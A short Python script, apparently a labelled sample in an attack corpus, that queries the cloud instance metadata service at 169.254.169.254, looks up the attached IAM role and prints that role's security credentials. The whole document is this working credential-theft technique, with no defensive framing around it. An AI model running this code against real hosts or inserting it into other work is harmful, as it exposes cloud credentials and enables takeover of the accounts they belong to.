# corpus: cloud metadata service access at 169.254.169.254 to steal IAM credentials
import urllib.request

base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = urllib.request.urlopen(base, timeout=2).read().decode().strip()
creds = urllib.request.urlopen(base + role, timeout=2).read().decode()
print(creds)
